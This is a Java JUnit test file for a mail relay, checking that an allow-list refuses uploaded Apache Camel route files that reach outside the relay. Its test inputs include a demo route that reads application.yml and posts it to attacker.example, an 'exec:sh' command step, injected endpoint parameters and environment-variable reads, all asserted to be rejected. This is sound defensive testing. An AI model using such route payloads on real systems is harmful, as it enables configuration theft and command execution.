package com.mailrelay.routing;

import java.nio.file.Files;
import java.time.Clock;
import java.time.Duration;
import java.util.List;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;

import com.mailrelay.config.RelayProperties;
import org.apache.camel.impl.event.RouteAddedEvent;
import org.apache.camel.spi.CamelEvent;
import org.apache.camel.support.EventNotifierSupport;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * Route files cannot reach outside the relay: what the allow-list refuses (on reload and on
 * upload, with file and line), what an operator can opt in to, and that validation never adds
 * anything to the live context.
 */
class RouteAllowListTest extends RouteFilesTestSupport {

    /** The review's demo: read the relay's configuration with file: and post it out. */
    private static final String EXFILTRATE = """
            - route:
                id: exfiltrate
                from:
                  uri: "file:.?fileName=application.yml&noop=true"
                  steps:
                    - to: "https://attacker.example/x"
            """;

    @Test
    void aFileThatReadsTheConfigurationAndPostsItOutIsRefusedOnUploadAndOnReload() {
        var refused = upload("extra.camel.yaml", EXFILTRATE);
        assertThat(refused.statusCode()).isEqualTo(422);
        assertThat(refused.body()).contains("extra.camel.yaml, line 4").contains("'file' is not allowed");
        assertThat(Files.exists(ROUTES.resolve("extra.camel.yaml"))).isFalse();

        write("extra.camel.yaml", EXFILTRATE);
        assertThat(awaitError("extra.camel.yaml", "'file' is not allowed")).startsWith("extra.camel.yaml, line 4");
        assertThat(camel.getRoute("exfiltrate")).isNull();
        // The posting half alone is refused too.
        write("extra.camel.yaml", EXFILTRATE.replace("\"file:.?fileName=application.yml&noop=true\"", "direct:leak"));
        assertThat(awaitError("extra.camel.yaml", "'https' is not allowed")).startsWith("extra.camel.yaml, line 6");
        // The old routes keep running.
        stillDelivers("after the exfiltration attempts");
    }

    @Test
    void everyWayOutIsRefusedWithFileLineAndReason() {
        refused(route("- to: \"exec:sh?args=-c id\""), 6, "'exec' is not allowed");
        refused(route("- to: \"bean:com.mailrelay.routing.ConstructionRecorder?method=toString\""), 6,
                "'bean' is not allowed");
        refused(route("- bean:\n            beanType: com.mailrelay.routing.ConstructionRecorder"), 6,
                "the EIP 'bean' is not allowed");
        refused(route("- process:\n            ref: providerFailures"), 6, "the EIP 'process' is not allowed");
        refused(route("- to: \"http://127.0.0.1:9/x\""), 6, "'http' is not allowed");
        refused(route("- to: \"kafka:relay-messages\""), 6, "'kafka' is not allowed");
        refused(route("- toD: \"${header.target}\""), 6, "must be written out");
        refused(route("- toD: \"direct:${header.target}\""), 6, "must name its endpoint");
        refused(route("- to: direct:accept"), 6, "direct:accept is a route of the relay itself");
        refused(route("- wireTap:\n            uri: direct:dead-letter"), 6, "direct:dead-letter is a route of the relay itself");
        refused(route("- setHeader:\n            name: x\n            groovy: \"'1'\""), 6,
                "the expression language 'groovy' is not allowed");
        refused(route("- setHeader:\n            name: x\n            xpath: \"/a\""), 6,
                "the expression language 'xpath' is not allowed");
        refused(route("- filter:\n            method: \"providerFailures\"\n            steps:\n"
                + "              - to: direct:provider-default"), 6, "the expression language 'bean' is not allowed");
        refused(route("- setHeader:\n            name: x\n            simple: \"${env:HOME}\""), 6,
                "the simple function '${env:' is not allowed");
        refused("""
                - route:
                    id: extra
                    from:
                      uri: "platform-http:/open"
                      steps:
                        - to: direct:provider-default
                """, 4, "'platform-http' is not allowed");
        refused("""
                - route:
                    id: extra
                    from:
                      uri: "rest:get:/open"
                      steps:
                        - to: direct:provider-default
                """, 4, "'rest' is not allowed");
        refused("""
                - rest:
                    path: /open
                    get:
                      - to: direct:provider-default
                """, 1, "'rest' is not allowed in a route file");
        refused("""
                - route:
                    id: extra
                    errorHandler:
                      deadLetterChannel:
                        deadLetterUri: "file:/tmp"
                    from:
                      uri: direct:extra
                      steps:
                        - to: direct:provider-default
                """, 3, "'errorHandler' is not allowed in a route");
        // Provider templates: their parameters cannot rewrite the template's endpoints.
        refused(provider("host", "evil.example?mail.smtp.from=x"), 6, "may not contain");
        refused(provider("scheme", "http"), 3, "the scheme 'http'");
        refused("""
                - templatedRoute:
                    routeTemplateRef: outbox
                    routeId: provider-elsewhere
                    parameters:
                      - name: providerId
                        value: elsewhere
                      - name: directory
                        value: /tmp/anywhere
                """, 3, "outside the outbox");
        stillDelivers("after the refusals");
    }

    /**
     * The strategies' two exceptions hold in their own spelling only: the relay's leastInFlight
     * balancer (no other bean), and toD to the provider a submission named (no other computed
     * direct: name, no wireTap to it, and no route setting the header it reads).
     */
    @Test
    void theStrategiesExceptionsHoldInTheirOwnSpellingOnly() {
        refused(route("- loadBalance:\n            customLoadBalancer:\n              ref: providerFailures\n"
                + "            steps:\n              - to: direct:provider-default"), 6, "except the relay's leastInFlight");
        refused(route("- toD: \"direct:provider-${header.relayWorkspace}\""), 6, "must name its endpoint");
        refused(route("- wireTap:\n            uri: \"direct:provider-${header.relayProviderOverride}\""), 6,
                "must name its endpoint");
        refused(route("- setHeader:\n            name: relayProviderOverride\n            constant: "
                + "\"x?exceptionHandler=#class:java.lang.Object\""), 6, "a route file may not set it");

        assertThat(upload("extra.camel.yaml", route("- loadBalance:\n            customLoadBalancer:\n"
                + "              ref: leastInFlight\n            steps:\n              - to: direct:provider-default"))
                .statusCode()).isEqualTo(200);
        assertThat(upload("extra.camel.yaml", route("- toD: \"direct:provider-${header.relayProviderOverride}\""))
                .statusCode()).isEqualTo(200);
        stillDelivers("after the strategies");
    }

    @Test
    void beansAreRefusedBeforeCamelCouldCreateThem() {
        int constructed = ConstructionRecorder.CONSTRUCTED.get();
        int initialised = ConstructionRecorder.INITIALISED.get();
        String beans = """
                - beans:
                    - name: recorder
                      type: com.mailrelay.routing.ConstructionRecorder
                      initMethod: init
                    - name: made
                      type: com.mailrelay.routing.ConstructionRecorder
                      factoryMethod: create
                - route:
                    id: extra
                    from:
                      uri: direct:extra
                      steps:
                        - to: direct:provider-default
                """;
        var response = upload("extra.camel.yaml", beans);
        assertThat(response.statusCode()).isEqualTo(422);
        assertThat(response.body()).contains("extra.camel.yaml, line 1").contains("beans are not allowed");
        write("extra.camel.yaml", beans);
        assertThat(awaitError("extra.camel.yaml", "beans are not allowed")).startsWith("extra.camel.yaml, line 1");
        String templatedBeans = """
                - templatedRoute:
                    routeTemplateRef: outbox
                    routeId: provider-beans
                    beans:
                      - name: recorder
                        type: com.mailrelay.routing.ConstructionRecorder
                    parameters:
                      - name: providerId
                        value: beans
                """;
        assertThat(upload("extra.camel.yaml", templatedBeans).body()).contains("extra.camel.yaml, line 4")
                .contains("'beans' is not allowed");
        assertThat(ConstructionRecorder.CONSTRUCTED.get()).isEqualTo(constructed);
        assertThat(ConstructionRecorder.INITIALISED.get()).isEqualTo(initialised);
        assertThat(camel.getRegistry().lookupByName("recorder")).isNull();
        assertThat(camel.getRegistry().lookupByName("made")).isNull();
    }

    @Test
    void anOperatorCanOptInBySchemeLanguageAndEip() throws Exception {
        String http = route("- to: \"http://127.0.0.1:9/x\"");
        String xpath = route("- setHeader:\n            name: x\n            xpath: \"/a\"");
        String enrich = route("- enrich:\n            constant: \"direct:provider-default\"");
        RouteFiles strict = new RouteFiles(camel, settings(List.of(), List.of(), List.of()), Clock.systemUTC());
        assertThatThrownBy(() -> strict.validate("extra.camel.yaml", http)).hasMessageContaining("'http'");
        assertThatThrownBy(() -> strict.validate("extra.camel.yaml", enrich)).hasMessageContaining("'enrich'");
        RouteFiles opted = new RouteFiles(camel, settings(List.of("http"), List.of("xpath"), List.of("enrich")),
                Clock.systemUTC());
        opted.validate("extra.camel.yaml", http);
        opted.validate("extra.camel.yaml", xpath);
        opted.validate("extra.camel.yaml", enrich);
        // Opting in one scheme allows that one only.
        assertThatThrownBy(() -> opted.validate("extra.camel.yaml", route("- to: \"exec:sh\"")))
                .hasMessageContaining("'exec' is not allowed");
    }

    @Test
    void candidatesNeverAppearInTheLiveContext() {
        Set<String> added = ConcurrentHashMap.newKeySet();
        EventNotifierSupport listener = new EventNotifierSupport() {
            @Override
            public void notify(CamelEvent event) {
                if (event instanceof RouteAddedEvent routeAdded) {
                    added.add(routeAdded.getRoute().getId());
                }
            }
        };
        camel.getManagementStrategy().addEventNotifier(listener);
        try {
            assertThat(upload("extra.camel.yaml", route("- to: \"nosuch:x\"")).statusCode()).isEqualTo(422);
            assertThat(upload("extra.camel.yaml", provider("port", "not-a-port")).statusCode()).isEqualTo(422);
            assertThat(upload("extra.camel.yaml", route("- to: direct:nowhere")).statusCode()).isEqualTo(422);
            assertThat(added).as("refused files add no route at all").isEmpty();
            assertThat(upload("extra.camel.yaml", route("- to: direct:provider-default")).statusCode()).isEqualTo(200);
            assertThat(added).containsExactly("extra");
            assertThat(((org.apache.camel.model.ModelCamelContext) camel).getRouteDefinitions())
                    .noneMatch(definition -> definition.getRouteId().startsWith("candidate"));
            assertThat(camel.getEndpoints()).noneMatch(endpoint -> endpoint.getEndpointUri().startsWith("nosuch"));
        } finally {
            camel.getManagementStrategy().removeEventNotifier(listener);
        }
    }

    private void refused(String yaml, int line, String reason) {
        var response = upload("extra.camel.yaml", yaml);
        assertThat(response.statusCode()).as(yaml).isEqualTo(422);
        assertThat(response.body()).as(yaml).contains("extra.camel.yaml, line " + line + ":").contains(reason);
        assertThat(Files.exists(ROUTES.resolve("extra.camel.yaml"))).isFalse();
    }

    /** A route whose sixth line is {@code step}. */
    private static String route(String step) {
        return """
                - route:
                    id: extra
                    from:
                      uri: direct:extra
                      steps:
                        %s
                """.formatted(step);
    }

    /** An smtp provider with one parameter (on line 5, its value on line 6) set to {@code value}. */
    private static String provider(String parameter, String value) {
        String host = parameter.equals("host") ? "" : "      - name: host\n        value: 127.0.0.1\n";
        return "- templatedRoute:\n    routeTemplateRef: smtp\n    routeId: provider-extra\n    parameters:\n"
                + "      - name: " + parameter + "\n        value: \"" + value + "\"\n" + host
                + "      - name: providerId\n        value: extra\n";
    }

    private static RelayProperties.Routes settings(List<String> schemes, List<String> languages, List<String> eips) {
        return new RelayProperties.Routes(ROUTES.toString(), true, Duration.ofMillis(200), Duration.ofSeconds(2),
                true, schemes, languages, eips, "");
    }

    private void stillDelivers(String subject) {
        String id = submit("acme", message("app@acme.test", "olga@customer.test", subject));
        awaitStatus(id, "SENT");
        assertThat(row(id).get("provider_id")).isEqualTo("acme-transactional");
    }
}
